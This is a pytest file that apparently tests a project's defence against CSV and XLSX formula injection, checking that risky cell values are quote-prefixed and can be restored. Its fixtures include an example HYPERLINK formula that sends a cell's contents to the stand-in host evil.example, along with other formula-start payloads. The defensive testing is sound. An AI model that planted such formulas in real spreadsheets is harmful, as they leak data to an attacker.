"""No export cell can run as a formula: the one neutralising function of every export."""

import csv
import io

import pytest
from openpyxl import load_workbook

from maillage.core.spreadsheets import csv_bytes, neutralise, restore, xlsx_bytes

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
#: Formula starts, as attackers write them.
RISKY = [HYPERLINK, "+32 4 123", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", RISKY)
def test_neutralise_prefixes_every_formula_start_and_restore_undoes_it(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["Robots", "", "'quoted", "O'Neil", "a=b", "0403.170.701"])
def test_neutralise_leaves_ordinary_text(value: str) -> None:
    assert neutralise(value) == value
    assert restore(value) == value


def test_csv_bytes_neutralises_every_cell() -> None:
    data = csv_bytes(["name", "n"], [[HYPERLINK, 3], ["Bob", None]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["name", "n"], ["'" + HYPERLINK, "3"], ["Bob", ""]]


def test_xlsx_bytes_writes_risky_strings_as_quoted_text() -> None:
    # XML reads a lone carriage return back as a line feed: that start is left to the CSV test.
    risky = [value for value in RISKY if not value.startswith("\r")]
    data = xlsx_bytes("sheet", ["name", "n"], [[value, 1] for value in risky])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for row, value in enumerate(risky, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.value == value
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
        assert sheet.cell(row=row, column=2).value == 1
    assert sheet.cell(row=1, column=1).quotePrefix is False
